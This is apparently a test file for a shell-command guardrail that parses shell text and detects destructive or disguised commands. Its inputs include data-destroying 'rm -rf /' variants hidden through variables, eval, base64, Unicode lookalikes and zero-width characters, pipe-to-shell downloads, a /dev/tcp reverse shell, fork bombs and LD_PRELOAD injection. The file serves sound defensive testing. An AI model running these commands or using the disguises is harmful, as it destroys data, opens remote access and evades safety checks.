"""Shell text: literal texts in, calls out."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rounds import ROUNDS

from guardrail.model import Call, Passage, Reading, Redirection, Uncovered, Word
from guardrail.reading.shell import read
from guardrail.reading.shell.words import MAX_BRACES, Piece, braced
from guardrail.vocabulary import EffectKind


def line(call: Call) -> str:
    """Returns a call as a line: program and words, with `?` before each unknown word."""
    return " ".join([call.program, *(word.text if word.known else "?" + word.text for word in call.words)])


def lines(text: str) -> list[str]:
    return [line(call) for call in read(text).calls]


def only(text: str) -> Call:
    (call,) = read(text).calls
    return call


def source(call: Call) -> str | None:
    """Returns the input of a call, as a line."""
    if isinstance(call.stdin, Word):
        return repr(call.stdin.text)
    return None if call.stdin is None else line(call.stdin)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("git status", ["git status"]),
        ("/usr/bin/Git.exe status", ["git status"]),
        (r"r\m -rf x", ["rm -rf x"]),
        (r"\rm x", ["rm x"]),
        ("'r'm x; r\"\"m y", ["rm x", "rm y"]),
        (r"echo a\ b 'c d' " + '"e  f" ' + r"$'g\x41\n'", ["echo a b c d e  f gA\n"]),
        ("echo \"a\\$b \\x\" 'it'\"'\"'s'", ["echo a$b \\x it's"]),
        ("echo $'\\162\\155' $\"x\"", ["echo rm x"]),
        ("sudo env A=1 rm -rf /", ["sudo env A=1 rm -rf /"]),
        ("rm -rf \\\n  /tmp/x", ["rm -rf /tmp/x"]),
        ("find . -name '*.py' -exec rm {} \\;", ["find . -name *.py -exec rm {} ;"]),
        ('rm -rf ~ ~/x "$HOME" ${HOME}/y', ["rm -rf ~ ~/x ~ ~/y"]),
        ("time -p make; command rm a; builtin echo b; exec sh -c 'x'", ["make ", "rm a", "echo b", "sh -c x"]),
        ("command -v git", []),
    ],
)
def test_quotes_and_escapes_are_removed_as_the_shell_removes_them(text: str, expected: list[str]) -> None:
    assert [found.strip() for found in lines(text)] == [found.strip() for found in expected]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("D=/; rm -rf $D", ["rm -rf /"]),
        ('D=/ && rm -rf "${D}"etc', ["rm -rf /etc"]),
        ("export D=/; rm -rf $D", ["export D=/", "rm -rf /"]),
        ("a=rm b=-rf; $a $b /", ["rm -rf /"]),
        ("c='rm -rf /'; $c", ["rm -rf /"]),
        ("IFS=,; c=rm,-rf,/; $c", ["rm -rf /"]),
        ("rm${IFS}-rf${IFS}/", ["rm -rf /"]),
        ("x=(rm -rf '/ a'); \"${x[@]}\"", ["rm -rf / a"]),
        ('x=(a b); x+=(c); echo ${x[1]} ${#x[@]} "${x[*]}"', ["echo b 3 a b c"]),
        ("rm -rf ${X:-build}", ["rm -rf build"]),
        ("rm -rf ${X:-$HOME/x}", ["rm -rf ~/x"]),
        (": ${X:=/srv}; rm -rf $X", ["rm -rf /srv"]),
        ("X=/a/b/c.tar.gz; echo ${X%/*} ${X##*/} ${X%%.*} ${X#*/}", ["echo /a/b c.tar.gz /a/b/c a/b/c.tar.gz"]),
        ("X=abc; echo ${X/b/x} ${X:1} ${X:0:1} ${X^^} ${#X} ${X+y}", ["echo axc bc a ABC 3 y"]),
        ("rm -rf ${PATH:0:1} ${HOME:0:1}", ["rm -rf / /"]),
        ("n=D; D=/; rm -rf ${!n}", ["rm -rf /"]),
        ("for f in a 'b c'; do rm \"$f\"; done", ["rm a", "rm b c"]),
        ("for f in {1..3}; do rm x$f; done", ["rm x1", "rm x2"]),
        ("if x; then D=a; else D=b; fi; rm $D", ["x", "rm a", "rm b"]),
        ("D=; case $1 in a) D=/x;; esac; rm $D/y", ["rm /x/y"]),
        ("D=a; (D=b; rm $D); rm $D", ["rm b", "rm a"]),
        ("local a=/; declare -r b=$a; rm $b", ["rm /"]),
        ('x=rm; y=/; eval "$x $y"', ["rm /"]),
        ('a=1; b=/; rm "$a ${b}c  $b"', ["rm 1 /c  /"]),
        ("set -- /etc; rm -rf $1", ["set -- /etc", "rm -rf /etc"]),
        ("unset D; rm -rf $D", ["unset D", "rm -rf ?$D"]),
        ("read -r D; rm -rf $D", ["rm -rf ?$D"]),
        ("while read -r D; do rm $D; done <<E\n/a\n/b\nE", ["rm /a", "rm /b"]),
        ("export A='b c' B=$X; x", ["export A=b c ?B=$X", "x"]),
        ('tmp=$(mktemp -d); rm -rf "$tmp/x"', ["mktemp -d", "rm -rf ?$(mktemp -d)/x"]),
    ],
)
def test_variables_of_the_same_action_are_resolved(text: str, expected: list[str]) -> None:
    assert [found.strip() for found in lines(text)] == expected


@pytest.mark.parametrize(
    ("text", "spelling", "if_empty"),
    [
        ("rm -rf $DIR/*", "$DIR/*", "/*"),
        ('rm -rf "$DIR"/', "$DIR/", "/"),
        ("rm -rf ${DIR}/$X", "${DIR}/$X", "/"),
        ("rm -rf ${DIR:?}/*", "${DIR:?}/*", None),
        ('rm -rf "${DIR:?not set}/"', "${DIR:?not set}/", None),
        ("rm -rf $(mktemp -d)/x", "$(mktemp -d)/x", None),
        ("rm -rf $PWD/x", "$PWD/x", None),
        ("rm -rf $(pwd)/x", "$PWD/x", None),
        ("rm -rf `pwd`/x", "$PWD/x", None),
        ("rm -rf $1/x", "$1/x", "/x"),
        (": ${DIR:?}; rm -rf $DIR/x", "$DIR/x", None),
        ("set -eu; rm -rf $DIR/x", "$DIR/x", None),
        ("set -o nounset; rm -rf $DIR/x", "$DIR/x", None),
        ('[ -n "$DIR" ] && rm -rf $DIR/x', "$DIR/x", None),
        ("if [[ -z $DIR ]]; then exit 1; fi; rm -rf $DIR/x", "$DIR/x", None),
        ("D=$1; rm -rf $D/x", "$1/x", "/x"),
        ("D=${X:-}; rm -rf $D/x", "${X:-}/x", "/x"),
        ("for d in $DIRS; do rm -rf $d/x; done", "$DIRS/x", "/x"),
        ("for d in $(ls); do rm -rf $d/x; done", "$(ls)/x", None),
        ("rm -rf ${{ inputs.dir }}/x", "${{ inputs.dir }}/x", "/x"),
        ('rm -rf "${{ github.workspace }}/x"', "${{ github.workspace }}/x", None),
        ("rm -rf {{ build_dir }}/x", "{{ build_dir }}/x", None),
    ],
)
def test_an_unresolved_expansion_keeps_its_spelling_and_what_it_is_if_empty(
    text: str, spelling: str, if_empty: str | None
) -> None:
    word = read(text).calls[-1].words[-1]
    assert (word.text, word.known, word.if_empty) == (spelling, False, if_empty)


@pytest.mark.parametrize(
    ("text", "words", "globs"),
    [
        ("rm *.py '*.c' \\*", ["*.py", "*.c", "*"], [True, False, False]),
        ("rm {a,b{c,d}}/e x{,y} {a}", ["a/e", "bc/e", "bd/e", "x", "xy", "{a}"], [False] * 5 + [True]),
        ("rm {1..3} {c..a} '{a,b}'", ["1", "2", "3", "c", "b", "a", "{a,b}"], [False] * 7),
        ("x='*'; rm $x \"$x\"", ["*", "*"], [True, False]),
        ('for f in *.log; do rm "$f"; done', ["*.log"], [True]),
    ],
)
def test_globs_and_braces(text: str, words: list[str], globs: list[bool]) -> None:
    call = read(text).calls[-1]
    assert [word.text for word in call.words] == words
    assert [word.glob for word in call.words] == globs


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a | b | c", [("a", None), ("b", "a"), ("c", "b")]),
        ("a |& b", [("a", None), ("b", "a")]),
        ("curl x | sudo bash", [("curl x", None), ("sudo bash", "curl x")]),
        ("sh <<< 'rm x'", [("sh", "'rm x\\n'")]),
        ("sh <<EOF\nrm x\nEOF\nls", [("sh", "'rm x\\n'"), ("ls", None)]),
        ("sh <<-'E F' 2>&1 | cat &\n\trm $x\n\tE F\nls", [("sh", "'rm $x\\n'"), ("cat", "sh"), ("ls", None)]),
        ("cat <<EOF | sh\nrm $X\nEOF", [("cat", "'rm $X\\n'"), ("sh", "'rm $X\\n'")]),
        ("cat <<A <<B\n1\nA\n2\nB\nls", [("cat", "'2\\n'"), ("ls", None)]),
        ("x=1; cat <<E\n$x `ls` \\$y\nE", [("ls", None), ("cat", "'1 `ls` $y\\n'")]),
        ("bash <(curl x)", [("curl x", None), ("bash ?<(curl x)", "curl x")]),
        ("a | tee >(sh)", [("a", None), ("tee ?>(sh)", "a"), ("sh", "tee ?>(sh)")]),
        ("$(curl x)", [("curl x", None), (" ?$(curl x)", "curl x")]),
        ('eval "$(curl x)"', [("curl x", None), ("eval ?$(curl x)", "curl x")]),
        ("{ a; b; } | sh", [("a", None), ("b", None), ("sh", "a")]),
        ("(echo a; echo b) | sh", [("echo a", None), ("echo b", None), ("sh", "'a\\nb\\n'")]),
        (
            "echo cm0gLXJmIC8= | base64 -d | sh",
            [("echo cm0gLXJmIC8=", None), ("base64 -d", "'cm0gLXJmIC8=\\n'"), ("sh", "'rm -rf /'")],
        ),
        ('echo "rm -rf $D" | sh', [("echo ?rm -rf $D", None), ("sh", "'rm -rf $D\\n'")]),
        ("f() { cat; }; a | f", [("a", None), ("cat", "a")]),
        ("a 'b c' | d | while read x; do rm $x; done", [("a b c", None), ("d", "a b c"), ("rm ?$(a 'b c' | d)", None)]),
        ("while read x; do rm $x; done < <(find .)", [("find .", None), ("rm ?$(find .)", None)]),
        ("find ~ | while read x; do rm $x; done", [("find ~", None), ("rm ?$(find ~)", None)]),
        ("bash < <(curl x)", [("curl x", None), ("bash", "curl x")]),
    ],
)
def test_pipes_and_here_documents_feed_a_call(text: str, expected: list[tuple[str, str | None]]) -> None:
    assert [(line(call), source(call)) for call in read(text).calls] == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a > f", [(">", "f")]),
        ("a >> f 2>&1", [(">>", "f")]),
        ("a 2>/dev/null >| f", [(">", "/dev/null"), (">|", "f")]),
        ("a &> f &>> g", [("&>", "f"), (">>", "g")]),
        ("a >& f <&3 >&-", [("&>", "f")]),
        ("a < f <> g", [("<", "f"), ("<>", "g")]),
        ("a {fd}> f", [(">", "f")]),
        ("a | b > f", [(">", "f")]),
        ("a && b > f", [(">", "f")]),
        ("exec 3<>/dev/tcp/h/1", [("<>", "/dev/tcp/h/1")]),
        ("> f", [(">", "f")]),
        ("{ a; } > f", [(">", "f")]),
        ("for x in 1; do a; done > f", [(">", "f")]),
        ("D=/etc; echo x > $D/passwd", [(">", "/etc/passwd")]),
        ("cat <<E > f\nx\nE", [(">", "f")]),
        ("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", [("&>", "/dev/tcp/10.0.0.1/80")]),
    ],
)
def test_redirections(text: str, expected: list[tuple[str, str]]) -> None:
    call = read(text).calls[-1]
    assert [(redirection.operator, redirection.target.text) for redirection in call.redirections] == expected


def test_operands_after_a_redirection_are_operands() -> None:
    call = only("cat > out a b")
    assert line(call) == "cat a b"
    assert call.redirections == (Redirection(">", call.redirections[0].target),)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("# rm -rf /", []),
        ("echo 'rm -rf /' # rm -rf /", ["echo rm -rf /"]),
        ('echo "$(date; rm x)"', ["date", "rm x", "echo ?$(date; rm x)"]),
        ("[ -f x ] && [[ $(id -u) == 0 ]] && ((x > 1)) && test -d y", ["id -u"]),
        ("echo $((1 + $(rm x)))", ["rm x", "echo ?$((1 + $(rm x)))"]),
        ("echo `rm \\`ls\\``", ["ls", "rm ?`ls`", "echo ?`rm \\`ls\\``"]),
        ("coproc NAME { rm x; }", ["rm x"]),
        ("time { rm x; }", ["rm x"]),
        ("! rm x", ["rm x"]),
        ("rm x & wait", ["rm x"]),
        ("until a; do b; done; for ((i=0;i<3;i++)); do c; done", ["a", "b", "c"]),
        ("select x in a b; do rm $x; done", ["rm a", "rm b"]),
        ("eval 'rm -rf' /", ["rm -rf /"]),
        ('eval "D=/"; rm $D', ["rm /"]),
        ("source <(kubectl completion bash)", ["kubectl completion bash", "source ?<(kubectl completion bash)"]),
        (". ./env.sh", ["source ./env.sh"]),
        ("alias x='rm -rf'; x /", ["rm -rf /"]),
        ("trap 'rm -rf \"$T\"' EXIT; T=/tmp/x", ["rm -rf /tmp/x"]),
        ("x=$(rm a) y=`rm b` c", ["rm a", "rm b", "c"]),
        ("$SUDO rm -rf /", ["sudo rm -rf /"]),
        ("$CMD rm", [" ?$CMD rm"]),
        ('"$ROOT/bin/tool" x', ["tool x"]),
        ("$(brew --prefix)/bin/git x", ["brew --prefix", "git x"]),
        (r"C:\Windows\System32\regsvr32.exe /s x", ["regsvr32 /s x"]),
        ('"C:\\Program Files\\x.exe" y', ["x y"]),
        ("D=/etc E=$(date) sh -c 'rm -rf $D'; rm $D", ["date", "sh -c rm -rf /etc", "rm ?$D"]),
        ("IFS=: read -r D; rm $D", ["rm ?$D"]),
        ("PAGER='sh -c \"rm x\"' git -p help", ['sh -c sh -c "rm x"', "git -p help"]),
        (
            "export GIT_SSH_COMMAND='ssh -i k'; EDITOR=vim git commit",
            ["export GIT_SSH_COMMAND=ssh -i k", "git commit"],
        ),
        ("export D=/etc; sh -c 'rm -rf $D ${X}'", ["export D=/etc", "sh -c rm -rf /etc ${X}"]),
        ("echo 'rm -rf /' > x.sh; bash ./x.sh", ["echo rm -rf /", "bash ./x.sh", "rm -rf /"]),
        ("cat > x <<E\n#!/bin/sh\nrm a\nE\nchmod +x x && ./x", ["cat", "chmod +x x", "x", "rm a"]),
        ("echo rm a > x; echo rm b >> x; . ./x", ["echo rm a", "echo rm b", "source ./x", "rm a", "rm b"]),
        ("echo 'import os' > x.py; python x.py", ["echo import os", "python x.py", "python -c import os\n"]),
        ("echo rm a > x; cat x; sudo bash x", ["echo rm a", "cat x", "sudo bash x", "rm a"]),
        (
            "printf '#!/usr/bin/env python\\nrm a' > x; sh -c ./x",
            ["printf #!/usr/bin/env python\\nrm a", "sh -c ./x", "python -c #!/usr/bin/env python\nrm a"],
        ),
        ("$(printf rm) -rf $(echo Lw== | base64 -d)", ["printf rm", "echo Lw==", "base64 -d", "rm -rf /"]),
    ],
)
def test_running_parts_are_read_and_quoted_parts_are_not(text: str, expected: list[str]) -> None:
    assert lines(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("f() { rm a; }", [("rm a", False)]),
        ('f() { rm "$1"; }; f /', [("rm /", True)]),
        ("function f { rm $@; }; f a b; f c", [("rm a b", True), ("rm c", True)]),
        ("f() { g; }; g() { rm a; }; f", [("rm a", True)]),
        ("f() { f; rm a; }; f", [("rm a", True)]),
        ("f() { rm $D; }; D=a; f; D=b; f", [("rm a", True), ("rm b", True)]),
        ('rm() { command rm -i "$@"; }; rm a', [("rm -i a", True)]),
        ('cd() { rm "$1"; }; cd a', [("rm a", True)]),
        ('f() { rm "$1" "$2"; }; f "$@"', [("rm ?$@ ?$2", True)]),
        ('f() { shift; rm "$1"; }; f a b', [("rm b", True)]),
        ('f() { rm "$2/x"; }; f a', [("rm /x", True)]),
        ("case $1 in a) rm a;; *) rm b;; esac", [("rm a", False), ("rm b", False)]),
        ("case $1 in *) rm b;; esac", [("rm b", True)]),
        ("case a in a) rm a;; *) rm b;; esac", [("rm a", True)]),
        ("if a; then rm b; fi; c && rm d || rm e", [(call, True) for call in ("a", "rm b", "c", "rm d", "rm e")]),
        ("trap 'rm a' EXIT; trap 'rm b' INT", [("rm a", True), ("rm b", False)]),
    ],
)
def test_a_call_is_sure_unless_nothing_leads_to_it(text: str, expected: list[tuple[str, bool]]) -> None:
    assert [(line(call), call.sure) for call in read(text).calls] == expected


@pytest.mark.parametrize(
    ("text", "directory"),
    [
        ("cd /; rm *", "/"),
        ("cd a && cd b && rm *", "a/b"),
        ("cd /a/b; cd ../c; rm *", "/a/c"),
        ("(cd /a); rm *", None),
        ("cd; rm *", "~"),
        ('cd "$X" || exit 1; rm *', "$X"),
        ("pushd /a; popd; rm *", None),
        ("cd a; cd -; rm *", None),
    ],
)
def test_the_directory_of_an_earlier_cd(text: str, directory: str | None) -> None:
    found = read(text).calls[-1].directory
    assert (found.text if found else None) == directory


@pytest.mark.parametrize(
    ("text", "expected", "unread"),
    [
        ('rm -rf / ; echo "x', ["rm -rf /", "echo x"], 0),
        ("if a; then rm -rf /", ["a", "rm -rf /"], 0),
        ("ls; ) rm -rf /", ["ls", "rm -rf /"], 0),
        ("for x in", [], 1),
        ("a\u200b\nr\u200bm x\r\ny", ["a", "rm x", "y"], 0),
        ("\x1b[31mrm\x1b[0m -rf /", ["rm -rf /"], 0),
        ("\u0433m \u2013rf /; \uff52\uff4d x", ["rm -rf /", "rm x"], 0),
    ],
)
def test_broken_and_disguised_text_is_read_as_far_as_it_goes(text: str, expected: list[str], unread: int) -> None:
    reading = read(text)
    assert [line(call) for call in reading.calls] == expected
    assert len(reading.uncovered) == unread


def test_comments_and_long_texts_are_passages() -> None:
    text = "# first\n# second\nls # third\ngit commit -m 'A message that is long enough for people to read it'"
    assert [passage.text for passage in read(text).passages] == [
        "first\nsecond",
        "third",
        "A message that is long enough for people to read it",
    ]


@pytest.mark.parametrize(
    ("text", "targets"),
    [
        ("LD_PRELOAD=/tmp/x.so ls", ["/tmp/x.so"]),
        ("export DYLD_INSERT_LIBRARIES=/var/tmp/x.dylib", ["/var/tmp/x.dylib"]),
        ("LD_PRELOAD=/usr/lib/libjemalloc.so.2 node x", []),
    ],
)
def test_a_library_of_a_temporary_directory_is_injected(text: str, targets: list[str]) -> None:
    assert [(effect.kind, effect.targets[0].text) for effect in read(text).effects] == [
        (EffectKind.INJECT, target) for target in targets
    ]


def test_spans_are_counted_from_the_offset_and_point_at_the_call() -> None:
    call = read("ls; rm -rf x", offset=10).calls[1]
    assert (call.span.start, call.span.end) == (14, 22)
    assert (call.words[1].span.start, call.words[1].span.end) == (21, 22)


SCRIPT = """#!/usr/bin/env bash
set -euo pipefail
readonly ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
usage() {
  cat <<USAGE
Usage: $0 [--clean] (removes "everything" under ${ROOT}/build)
USAGE
}
log() { printf '%s\\n' "$*" >&2; }
clean=0
while [[ $# -gt 0 ]]; do
  case "$1" in
    --clean) clean=1; shift ;;
    -h|--help) usage; exit 0 ;;
    *) log "unknown: $1"; exit 2 ;;
  esac
done
if (( clean )); then
  rm -rf "${ROOT}/build"
fi
for target in linux darwin; do
  GOOS=$target go build -o "dist/app-${target}" ./cmd/app || { log "failed"; exit 1; }
done
log done
"""


def test_a_whole_script_is_read() -> None:
    reading = read(SCRIPT)
    found = [line(call) for call in reading.calls if call.program in ("rm", "go")]
    assert reading.uncovered == ()
    assert found == [
        'rm -rf ?$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/build',
        "go build -o dist/app-linux ./cmd/app",
        "go build -o dist/app-darwin ./cmd/app",
    ]


def test_a_long_script_is_read_in_chunks() -> None:
    reading = read(SCRIPT * 12)
    assert [line(call) for call in reading.calls].count("go build -o dist/app-linux ./cmd/app") == 12
    assert reading.uncovered == ()


def assert_within(reading: Reading, text: str) -> None:
    words = [word for call in reading.calls for word in call.words]
    parts: list[Call | Passage | Uncovered | Word] = [*reading.calls, *reading.passages, *reading.uncovered, *words]
    assert all(0 <= part.span.start <= part.span.end <= len(text) for part in parts)


def split(text: str) -> list[str]:
    return text.split()


TOKENS = st.sampled_from(
    [
        *split("rm -rf / $x ${x:-y} $( ) ` ' ; | || && & ( ) { } [[ ]] (( )) <<EOF EOF <<< > >> < <( if then else fi"),
        '"',
        *split("for in do done while case esac ;; function f() = x=1 a=( # * {a,b} {1..3} eval alias trap cd é"),
        *["\\"],
        *split("${{ }} {{ echo base64 -d ! time coproc"),
        *["\u200b", "\x1b[0m", "$'\\x41'", "\n", "\t"],
    ]
)


@settings(max_examples=30 * ROUNDS, deadline=None)
@given(st.lists(TOKENS, max_size=40), st.sampled_from(["", " "]))
def test_no_mix_of_shell_tokens_raises(tokens: list[str], glue: str) -> None:
    text = glue.join(tokens)
    assert_within(read(text), text)


@settings(max_examples=20 * ROUNDS, deadline=None)
@given(st.text(max_size=200))
def test_no_text_raises(text: str) -> None:
    assert_within(read(text), text)


# Normalising leaves no control characters, nothing invisible and no lookalikes of ASCII.
PLAIN = st.text(st.characters(min_codepoint=32, max_codepoint=126) | st.sampled_from("\n\tüßé中"), max_size=30)


@settings(max_examples=40 * ROUNDS, deadline=None)
@given(st.lists(PLAIN, min_size=1, max_size=6))
def test_quoted_arguments_come_back_exactly(argv: list[str]) -> None:
    call = only(shlex.join(["prog", *argv]))
    assert [word.text for word in call.words] == argv
    assert all(word.known and not word.glob for word in call.words)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 65536,
        "$(" * 32768,
        "a|" * 32768,
        "x=)" * 20000,
        "a;" * 32768,
        "{a," * 20000,
        "x=$x$x;" * 9000,
        "<<A " * 16000,
    ],
)
def test_hostile_texts_are_read_in_bounded_work(text: str) -> None:
    reading = read(text)
    assert reading.uncovered or reading.calls
    assert_within(reading, text)


@pytest.mark.parametrize("text", [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"])
def test_a_function_that_doubles_itself_disturbs_the_machine(text: str) -> None:
    assert [effect.kind for effect in read(text).effects] == [EffectKind.DISRUPT]


def test_a_function_that_walks_a_tree_disturbs_nothing() -> None:
    assert read('walk() { walk "$1/a"; walk "$1/b"; }; walk .').effects == ()


def test_functions_that_only_print_leave_the_budget_to_what_follows() -> None:
    script = 'say() { printf "%s\\n" "$1" >&2; }\n' + "say 'cannot open the file'\n" * 1_800 + "rm -rf build\n"
    reading = read(script)
    assert not any(part.stopped for part in reading.uncovered)
    assert reading.calls[-1].program == "rm"


MANY = "".join(f"touch f{number}\n" for number in range(70))
COPY = "copy() {\n  for f in p q; do cp $f $to; done\n  to=$2\n}\n"


def test_a_function_that_is_called_again_in_the_same_way_is_read_once() -> None:
    text = f"{MANY}{COPY}" + "to=a\ncopy x a\n" * 400 + "rm -rf /srv"
    assert lines(text)[70:] == ["cp p a", "cp q a", "rm -rf /srv"]
    assert not any(part.stopped for part in read(text).uncovered)


def test_a_function_is_read_again_if_the_things_it_refers_to_have_changed() -> None:
    text = f"{MANY}{COPY}to=a\ncopy x a\ncopy x b\ncopy x a"
    assert lines(text)[70:] == ["cp p a", "cp q a", "cp p b", "cp q b"]


def test_a_trap_deep_in_nested_commands_is_read() -> None:
    script = "if a; then " * 6 + "trap 'rm -rf /tmp/x' EXIT" + "; fi" * 6
    reading = read(script)
    assert not any(part.stopped for part in reading.uncovered)
    assert any(call.program == "rm" for call in reading.calls)


def test_a_long_rest_after_the_expanded_braces_is_one_part_of_every_word() -> None:
    words = braced([Piece("{1..9}" * 2_000)])
    assert len(words) == MAX_BRACES + 1
    assert max(map(len, words)) < 100
    assert {"".join(piece.text for piece in word)[-6:] for word in words} == {"{1..9}"}
